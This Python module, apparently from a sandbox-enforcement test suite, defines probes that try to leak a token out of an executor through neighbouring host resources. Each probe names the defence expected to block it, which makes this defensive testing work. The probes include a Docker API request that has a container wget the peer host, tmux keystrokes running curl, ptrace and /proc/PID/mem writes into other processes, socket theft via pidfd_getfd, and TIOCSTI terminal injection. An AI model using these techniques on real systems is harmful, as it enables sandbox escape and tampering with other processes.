"""Ways by what surrounds an executor on its host: services, processes, sockets that others opened."""

from __future__ import annotations

import array
import ctypes
import fcntl
import os
import signal
import socket
import struct
import termios
import time
from pathlib import Path

from enforcer.probe.inside.kit import PATIENCE, Case, Refused, check, libc, syscall, technique

_UNIX = (
    "Unix sockets are refused by the seccomp filter, and the host's are hidden; abstract ones have no namespace here"
)
_HANDED = "executors start without the caller's descriptors"
_PROCESS = "the executor sees no process of the host: a PID namespace of its own"
_IPC = "an IPC namespace of its own"
_PTRACE_ATTACH, _PTRACE_DETACH, _PTRACE_POKEDATA, _WALL = 16, 17, 5, 0x40000000
_KEY_USER_KEYRING = -4


def _unix(c: Case, address: str, message: str | None = None) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect(address)
        c.talk(sock, None if message is None else message.encode())


@technique("unix-tmp", "relays", _UNIX, stage="neighbour")
def unix_tmp(c: Case) -> None:
    """A forwarding service on a Unix socket in /tmp."""
    _unix(c, c.values["sockets"]["plain"])


@technique("unix-run", "relays", _UNIX, stage="neighbour")
def unix_run(c: Case) -> None:
    """A forwarding service on a Unix socket in /run."""
    _unix(c, c.values["sockets"]["run"])


@technique("unix-home", "relays", _UNIX, stage="neighbour")
def unix_home(c: Case) -> None:
    """A forwarding service on a Unix socket below /home, as SSH and GPG agents have."""
    _unix(c, c.values["sockets"]["home"])


@technique("unix-datagram", "relays", _UNIX, stage="neighbour")
def unix_datagram(c: Case) -> None:
    """A datagram to a Unix socket, as to a system log."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(c.payload, c.values["sockets"]["datagram"])


@technique("unix-abstract", "relays", _UNIX, stage="neighbour")
def unix_abstract(c: Case) -> None:
    """An abstract Unix socket, which no file permission guards."""
    _unix(c, f"\0{c.values['name']}-1")


@technique("unix-abstract-datagram", "relays", _UNIX, stage="neighbour")
def unix_abstract_datagram(c: Case) -> None:
    """A datagram to an abstract Unix socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(c.payload, f"\0{c.values['name']}-2")


@technique("container-engine", "relays", _UNIX, stage="neighbour")
def container_engine(c: Case) -> None:
    """A container engine's socket at a path of its own, asked to run a command."""
    body = f'{{"Image":"busybox","Cmd":["wget","http://{c.peer4}/{c.token}"]}}'
    head = f"POST /v1.41/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Length: {len(body)}\r\n\r\n"
    _unix(c, c.values["sockets"]["docker"], head + body)


@technique("message-bus", "relays", _UNIX, stage="neighbour")
def message_bus(c: Case) -> None:
    """A message bus at a path of its own, by which services start commands."""
    _unix(c, c.values["sockets"]["bus"], f"\0AUTH EXTERNAL 30\r\nBEGIN\r\nStartTransientUnit {c.token}\r\n")


@technique("terminal-multiplexer", "relays", _UNIX, stage="neighbour")
def terminal_multiplexer(c: Case) -> None:
    """A terminal multiplexer's server, told to type a command."""
    _unix(c, c.values["sockets"]["tmux"], f"send-keys curl {c.peer4}/{c.token} Enter\n")


def _handed(c: Case, state: str) -> socket.socket:
    """A socket that the helper outside opened and hands over."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect(c.values["sockets"]["descriptors"])
        sock.sendall(f"{state} {c.port}".encode())
        _data, descriptors, _flags, _address = socket.recv_fds(sock, 100, 1)
        if not descriptors:
            raise Refused("no descriptor came")
        given = socket.socket(fileno=descriptors[0])
        given.settimeout(PATIENCE)
        return given


@technique("handed-connected", "descriptors", _UNIX, stage="neighbour", token_only=True)
def handed_connected(c: Case) -> None:
    """A connected socket of the outside, received over a Unix socket."""
    with _handed(c, "connected") as sock:
        c.talk(sock)


@technique("handed-unconnected", "descriptors", _UNIX, stage="neighbour")
def handed_unconnected(c: Case) -> None:
    """An unconnected socket of the outside, received over a Unix socket and connected here."""
    with _handed(c, "unconnected") as sock:
        sock.connect((c.peer4, c.port))
        c.talk(sock)


@technique("handed-listener", "descriptors", _UNIX, stage="inbound", token_only=True)
def handed_listener(c: Case) -> None:
    """A listening socket of the outside, from which connections of the far side are taken."""
    with _handed(c, "listening") as server:
        client, _ = server.accept()
        with client:
            client.sendall(c.payload)


@technique("inherited-socket", "descriptors", _HANDED, stage="inherited-socket", start="own", token_only=True)
def inherited_socket(c: Case) -> None:
    """A connected socket that the caller of the executor left open."""
    with socket.socket(fileno=c.values["descriptor"]) as sock:
        c.talk(sock)


@technique("inherited-namespace", "descriptors", _HANDED, stage="inherited-namespace", start="own", users="root")
def inherited_namespace(c: Case) -> None:
    """A descriptor of the host's network namespace that the caller left open, entered."""
    check(libc.setns(c.values["descriptor"], 0), "setns")
    c.tcp(c.peer4)


@technique("stdin-socket", "descriptors", _HANDED, stage="stdin-socket", start="own", token_only=True)
def stdin_socket(c: Case) -> None:
    """A socket connected to the far side as standard input."""
    with socket.socket(fileno=os.dup(0)) as sock:
        c.talk(sock)


@technique("stdin-handing", "descriptors", _HANDED, stage="stdin-handing", start="own", token_only=True)
def stdin_handing(c: Case) -> None:
    """A Unix socket as standard input, by which the caller hands in a connected socket later."""
    with socket.socket(fileno=os.dup(0)) as sock:
        sock.settimeout(PATIENCE)
        _data, ancillary, _flags, _address = sock.recvmsg(100, socket.CMSG_SPACE(4))
        descriptors = array.array("i", ancillary[0][2] if ancillary else b"")
        if not descriptors:
            raise Refused("no descriptor came")
        with socket.socket(fileno=descriptors[0]) as given:
            c.talk(given)


@technique("stdin-unconnected", "descriptors", _HANDED, stage="stdin-unconnected", start="own")
def stdin_unconnected(c: Case) -> None:
    """An unconnected UDP socket of the outside as standard input."""
    with socket.socket(fileno=os.dup(0)) as sock:
        sock.sendto(c.payload, (c.peer4, c.port))


@technique("descriptor-taken", "neighbours", _PROCESS, stage="neighbour")
def descriptor_taken(c: Case) -> None:
    """A connected socket taken out of another process of the same user, pidfd_getfd()."""
    target = syscall("pidfd_open", c.values["neighbour"]["pid"], 0)
    with socket.socket(fileno=syscall("pidfd_getfd", target, c.values["neighbour"]["socket"], 0)) as sock:
        sock.send(c.payload)


@technique("ptrace", "neighbours", _PROCESS, stage="neighbour")
def ptrace(c: Case) -> None:
    """ptrace of another process of the same user: the token poked into its memory."""
    pid, where = c.values["neighbour"]["pid"], c.values["neighbour"]["buffer"]
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    check(libc.ptrace(_PTRACE_ATTACH, pid, None, None), "ptrace")
    os.waitpid(pid, _WALL)
    # The first word last: the other side takes what it finds as soon as there is something.
    words = [(where + at, c.payload[at : at + 8]) for at in range(0, len(c.payload), 8)]
    for address, word in reversed(words):
        check(libc.ptrace(_PTRACE_POKEDATA, pid, address, int.from_bytes(word, "little")), "ptrace")
    check(libc.ptrace(_PTRACE_DETACH, pid, None, None), "ptrace")


@technique("memory-written", "neighbours", _PROCESS, stage="neighbour")
def memory_written(c: Case) -> None:
    """process_vm_writev() into another process of the same user."""
    text = ctypes.create_string_buffer(c.payload)
    here = struct.pack("=QQ", ctypes.addressof(text), len(c.payload))
    there = struct.pack("=QQ", c.values["neighbour"]["buffer"], len(c.payload))
    syscall("process_vm_writev", c.values["neighbour"]["pid"], here, 1, there, 1, 0)


@technique("memory-file", "neighbours", _PROCESS, stage="neighbour")
def memory_file(c: Case) -> None:
    """/proc/PID/mem of another process of the same user."""
    with Path(f"/proc/{c.values['neighbour']['pid']}/mem").open("r+b", buffering=0) as memory:
        memory.seek(c.values["neighbour"]["buffer"])
        memory.write(c.payload)


@technique("signalled", "neighbours", _PROCESS, stage="neighbour")
def signalled(c: Case) -> None:
    """A signal to another process of the same user, which acts on it."""
    os.kill(c.values["neighbour"]["pid"], signal.SIGUSR1)


@technique("message-queue", "neighbours", _IPC, stage="neighbour")
def message_queue(c: Case) -> None:
    """A System V message queue that another process reads."""
    queue = check(libc.msgget(c.values["queue_key"], 0o666), "msgget")
    message = struct.pack("=q", 1) + c.payload
    check(libc.msgsnd(queue, message, ctypes.c_size_t(len(c.payload)), 0), "msgsnd")


@technique("keyring", "neighbours", "the seccomp filter refuses keyrings", stage="neighbour")
def keyring(c: Case) -> None:
    """A key in the user's keyring, which all processes of the user share."""
    syscall("add_key", b"user", c.values["name"].encode(), c.payload, len(c.payload), _KEY_USER_KEYRING)


@technique(
    "terminal-typed",
    "neighbours",
    "a session and a terminal of its own; TIOCSTI is refused",
    stage="terminal",
    start="own",
)
def terminal_typed(c: Case) -> None:
    """Characters pushed into the terminal that the executor was started from, TIOCSTI."""
    for byte in c.payload + b"\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))


@technique("old-socket", "namespaces", "the programs follow the socket into any namespace")
def old_socket(c: Case) -> None:
    """A socket made before a new user and network namespace, used from there with all capabilities."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        check(libc.unshare(0x50000000), "unshare")
        sock.sendto(c.payload, (c.peer4, c.port))


@technique("outlived", "timing", "the executor's processes end with it", stage="outlive", start="own")
def outlived(c: Case) -> None:
    """A process that goes on after the executor ended, and then connects."""
    if os.fork() == 0:
        os.setsid()
        for descriptor in range(256):
            try:
                os.close(descriptor)
            except OSError:
                continue
        time.sleep(0.8)
        c.tcp(c.peer4)
        os._exit(0)
